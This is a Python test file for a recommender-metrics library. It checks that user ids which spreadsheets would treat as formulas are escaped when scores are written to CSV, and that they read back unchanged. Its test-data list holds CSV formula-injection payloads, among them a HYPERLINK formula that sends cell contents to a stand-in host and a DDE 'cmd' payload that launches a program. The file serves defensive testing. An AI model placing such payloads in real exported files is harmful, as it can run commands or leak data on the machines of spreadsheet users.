"""Ids that a spreadsheet would execute are written as text, and read back unchanged."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import numpy as np
import pandas as pd
import pytest
from hypothesis import example, given
from hypothesis import strategies as st

import recsys_ndcg as rn
from recsys_ndcg.input import TextFormat
from recsys_ndcg.report import find_score_writer
from tests.input.tables import table_in, write
from tests.profiles import examples

RUNS = "=+-@\t\r\n＝＋－＠"  # noqa: RUF001 - typed in Japan
HOSTILE = [
    "=1+1", "+1-1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "'=1", "''=1", "'", "'tis", "'-5",
    "-5", "+5", "--5", "-5.5e-3", "-", "a=1", "ann", '"=1"', "a;=1+1", "a\t=1", "x\ry", "0\r",
    " =1", '=HYPERLINK("http://x?"&A1,"y")', "=cmd|' /C calc'!A0", "a\r\nb",
]  # fmt: skip
SIGNS = st.sampled_from("'=+-@\t\r\n;,|\" a1") | st.characters(codec="utf-8", min_codepoint=1)
TEXTS = st.text(SIGNS, min_size=1, max_size=6).filter(lambda text: text.strip())
#: The regular expression in the docstring of `write_csv` for users of pandas.
FOR_PANDAS = r"^'(?='*[=+\-@\t\r\n])"


def table(ids: list[Any]) -> pd.DataFrame:
    """Return a table of scores for these users."""
    per_user = rn.evaluate({"ann": [(4.5, 5), (3.0, 2)]}).per_user
    index = pd.Index(ids, name="user", dtype=object)
    return per_user.iloc[[0] * len(ids)].set_axis(index)


@examples(0.5)
@example(ids=HOSTILE)
@given(ids=st.lists(TEXTS, min_size=1, max_size=8, unique=True))
def test_any_text_is_read_back(ids: list[str], tmp_path_factory: pytest.TempPathFactory) -> None:
    """By our reader, and by pandas with the documented expression."""
    text = find_score_writer(".csv")(table(ids)).decode()
    path = write(tmp_path_factory.getbasetemp(), text, "u.csv")
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    for cell in cells:
        number = cell.startswith("-") and cell[1:2].isdigit() and float(cell) <= 0
        assert not cell.startswith(tuple(RUNS)) or number
    assert [str(one) for one in table_in(path)["user"]] == ids
    read = pd.read_csv(path, dtype={"user": str}, keep_default_na=False)["user"]
    if "\r" not in "".join(ids):
        assert read.str.replace(FOR_PANDAS, "", regex=True).tolist() == ids


@given(TEXTS, TEXTS)
def test_guarding_text_is_reversible(one: str, other: str) -> None:
    """Different texts stay different."""
    assert TextFormat.unescape_formula(TextFormat.escape_formula(one)) == one
    assert (TextFormat.escape_formula(one) == TextFormat.escape_formula(other)) == (one == other)


def test_only_text_is_guarded_and_the_table_is_not_changed() -> None:
    """Negative numbers stay, headings are guarded, and semicolons quoted for other countries."""
    for ids in ([-5, 7], ["-5", "7.5"], [-0.5, 2.0], ["ann", -5, np.int64(-7)]):
        text = find_score_writer(".csv")(table(ids)).decode()
        assert [line.split(",")[0] for line in text.splitlines()[1:]] == [str(one) for one in ids]
    assert find_score_writer(".csv")(table(["a;=1+1"])).splitlines()[1].startswith(b'"a;=1+1",')
    before = table(["=1", "-x"]).rename(columns={"ndcg@10": "=1+1"})
    assert find_score_writer(".csv")(before).splitlines()[0] == b"user,n_items,n_relevant,'=1+1"
    assert before.index.tolist() == ["=1", "-x"]


HEADINGS = ["user,item,estimated,true", "user,n_items,item,true", "a,b,c,d"]


@pytest.mark.parametrize("heading", HEADINGS)
def test_apostrophes_in_other_files_are_kept(tmp_path: Path, heading: str) -> None:
    """They belong to the id or to the heading."""
    frame: Any = table_in(write(tmp_path, f"{heading},'=x\n'=1,'=a,1,1,1\n''-b,c,2,2,2\n"))
    assert frame.iloc[:, 0].tolist() == ["'=1", "''-b"]
    assert frame.columns[-1] == "'=x"
    path = write(tmp_path, "user,item,estimated,true\n'=1,a,1,5\n'=1,b,2,3\n")
    assert rn.evaluate(path).users.tolist() == ["'=1"]


@pytest.mark.parametrize("end", ["\n", "\r\n", "\r"])
def test_line_ends_in_quotes_belong_to_the_id(tmp_path: Path, end: str) -> None:
    """With each line end of the file."""
    rows = ["user,item,estimated,true", '"a\r\nb",x,1,5', '"a\r\nb",y,2,3', '"c\rd",y,2,3', ""]
    frame: Any = table_in(write(tmp_path, end.join(rows)))
    assert frame["user"].tolist() == ["a\r\nb", "a\r\nb", "c\rd"]
    assert frame["true"].tolist() == [5, 3, 3]


@pytest.mark.parametrize("user", [("ann", 1), ("b\ud800", 1)])
def test_users_may_be_pairs(user: Any, tmp_path: Path) -> None:
    """They are one column of a file, as Python writes them."""
    path = tmp_path / "scores.csv"
    rn.evaluate({user: [(4.0, 5), (3.0, 2)], ("zoe", 2): [(1.0, 3)]}, per_user=path)
    assert pd.read_csv(path)["user"].tolist() == [str(user), "('zoe', 2)"]
